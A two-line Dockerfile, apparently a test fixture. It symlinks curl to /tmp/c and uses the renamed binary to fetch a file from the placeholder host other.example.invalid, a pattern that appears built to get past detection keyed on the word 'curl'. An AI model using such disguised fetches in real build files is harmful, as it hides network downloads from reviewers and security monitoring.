FROM debian:12-slim
RUN ln -s "$(command -v curl)" /tmp/c; /tmp/c -o /a other.example.invalid/a
